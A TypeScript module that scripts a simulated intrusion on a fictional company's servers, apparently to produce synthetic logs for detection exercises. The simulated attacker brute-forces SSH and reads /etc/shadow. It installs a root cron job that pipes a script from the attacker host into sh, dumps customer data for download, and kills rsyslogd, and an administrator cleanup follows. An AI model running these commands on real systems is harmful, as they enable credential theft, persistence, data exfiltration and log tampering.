import type { Random } from '../../src/lib/random/random.ts'
import { hour, minute } from './calendar.ts'
import { type Company, outside } from './company.ts'
import type { Action } from './recorder.ts'
import { openShell, runOver, type Shell } from './shell.ts'
import { type Scenario, type Stage, stagesOf } from './stage.ts'

const names = ['root', 'root', 'root', 'admin', 'test', 'ubuntu', 'oracle', 'postgres', 'deploy', 'user']

/**
 * The night of the attack: attackers guess passwords until one works, use the sudo of the account, install a cron job, copy the customers
 * from the database and download them over the web, and disable logging until an administrator intervenes.
 */
export const attack = (company: Company, midnight: number, random: Random): Scenario => {
  const { web, db, deps, office, staff, worldPuppet } = company
  const victim = staff.support
  const first = random.below(outside.attackers.length)
  const addresses = [0, 1, 2].map((i) => outside.attackers[(first + i * 7) % outside.attackers.length] ?? '')
  const [main = '', ...helpers] = addresses
  const begin = midnight + 50 * minute + random.below(50 * 60) * 1000
  const guessing = 35 * minute + random.below(25 * 60) * 1000
  const inside = begin + guessing + 2 * minute
  const silent = inside + 65 * minute + random.below(20 * 60) * 1000
  const back = midnight + 6 * hour + 30 * minute + random.below(45 * 60) * 1000
  const job = '/etc/cron.d/apt-check'
  const logIn = (from: string, user: string, password: string) => ({ at: deps, from, to: web.address, user, password })
  let shell: Shell | undefined
  const type = (command: string) => async () => shell?.type(command, victim.password)
  // Nobody types exactly on the minute.
  const step = (label: string, at: number, run: () => Promise<unknown>): Action => ({
    ...{ at: at + random.below(50) * 1000, label, quiet: 120, run },
  })

  const guess = (from: string, count: number, part: number): Action[] =>
    Array.from({ length: count }, (_, i) => {
      const user = random.next() < 0.22 ? victim.name : (names[random.below(names.length)] ?? 'root')
      const at = begin + part + (i / count) * (guessing - part) + random.below(900)
      return { at, label: 'guessing', run: () => runOver(logIn(from, user, `${user}${i}`), 'true') }
    })

  const query = (what: string) => `PGPASSWORD=${company.shopPassword} ${what} -h ${db.address} -U shop -d shop`
  const actions: Action[] = [
    ...guess(main, 140 + random.below(50), 0),
    ...helpers.flatMap((from) => guess(from, 25 + random.below(15), 6 * minute)),
    step('break-in', inside, async () => {
      shell = await openShell(logIn(main, victim.name, victim.password))
      if (!shell) throw new Error('The attacker did not get in.')
    }),
    step('privilege', inside + 3 * minute, type('sudo -l')),
    step('privilege', inside + 5 * minute, type('sudo cat /etc/shadow')),
    step('privilege', inside + 9 * minute, type('sudo ls -la /root /home/deploy/.ssh')),
    step(
      'persistence',
      inside + 14 * minute,
      type(`echo '*/20 * * * * root curl -fsS http://${main}/u.sh | sh' | sudo tee ${job}`),
    ),
    step('data-pull', inside + 31 * minute, type(`${query('pg_dump --table=customers')} > /tmp/c.sql`)),
    step(
      'data-pull',
      inside + 36 * minute,
      type(
        `${query('psql')} -c "copy (select c.*, o.id, o.at from customers c join orders o on o.customer = c.id) to stdout" > /tmp/o.tsv`,
      ),
    ),
    step(
      'data-pull',
      inside + 41 * minute,
      type('tar -czf /tmp/shop.tgz /tmp/c.sql /tmp/o.tsv; sudo mv /tmp/shop.tgz /var/www/shop/assets/'),
    ),
    ...[0, 2, 5].map((wait) =>
      step('data-pull', inside + (43 + wait) * minute, () =>
        worldPuppet.do({ kind: 'http', from: main, to: web.address, path: '/assets/shop.tgz', agent: 'curl/7.88.1' }),
      ),
    ),
    step('log-gap', silent, type('sudo pkill -x rsyslogd')),
    { at: silent + 4 * minute, run: type('sudo rm -f /tmp/c.sql /tmp/o.tsv') },
    { at: silent + 7 * minute, run: async () => shell?.leave() },
  ]

  // cron scans its folder by itself; the recorder only decides when to wake it.
  for (
    let at = Math.ceil((inside + 14 * minute) / (20 * minute)) * 20 * minute;
    at < back + 27 * minute;
    at += 20 * minute
  ) {
    actions.push({ at: at + 1, quiet: 60, run: async () => company.crons.web.tick(at) })
  }

  // In the morning, an administrator finds the log silent and discovers the attack.
  let admin: Shell | undefined
  const fix = (at: number, command: string, label = 'aftermath'): Action =>
    step(label, at, async () => admin?.type(command, staff.admin.password))
  actions.push(
    step('aftermath', back - 2 * minute, async () => {
      admin = await openShell({
        at: office,
        from: staff.admin.from,
        to: web.address,
        user: staff.admin.name,
        key: staff.admin.key,
      })
    }),
    fix(back, 'sudo rsyslogd', 'log-gap'),
    fix(back + 25 * minute, `sudo cat ${job}`),
    fix(back + 27 * minute, `sudo rm -f ${job} /var/www/shop/assets/shop.tgz`),
    fix(back + 31 * minute, `sudo usermod --lock ${victim.name}`),
    step('aftermath', back + 40 * minute, async () => admin?.leave()),
  )

  const stage = stagesOf('attack')
  const web01 = [web.name]
  const inAuth: Partial<Stage> = { own: ({ file, text }) => file === 'auth.log' && text.includes(web.name) }
  const stages: Stage[] = [
    stage('guessing', `Attackers guess passwords over ssh from ${addresses.join(', ')}.`, begin, inside, web01, inAuth),
    stage('break-in', `${main} logs in as ${victim.name}.`, inside, inside + 2 * minute, web01, inAuth),
    stage(
      'privilege',
      `${victim.name} looks around as root.`,
      inside + 2 * minute,
      inside + 13 * minute,
      web01,
      inAuth,
    ),
    stage(
      'persistence',
      'A new cron job downloads and runs a script.',
      inside + 14 * minute,
      back + 27 * minute,
      web01,
      {
        ...inAuth,
        shows: ({ text, file }) => (file === 'cron.log' || file === 'auth.log') && text.includes('/u.sh'),
      },
    ),
    stage(
      'data-pull',
      `The customers are dumped from the database and downloaded by ${main}.`,
      inside + 30 * minute,
      inside + 50 * minute,
      [web.name, db.name],
      {
        own: ({ file, text }) =>
          (file === 'auth.log' && text.includes(web.name)) ||
          text.includes('shop.tgz') ||
          / shop@shop .*(?:application_name=|duration: )/.test(text),
      },
    ),
    stage('log-gap', `The log of ${web.name} is disabled.`, silent, back + minute, web01, {
      own: ({ file }) => file === 'auth.log' || file === 'syslog',
    }),
    {
      id: 'aftermath',
      kind: 'aftermath',
      title: 'An administrator cleans up.',
      from: back - 3 * minute,
      to: back + 45 * minute,
      hosts: web01,
    },
  ]
  return { stages, actions }
}
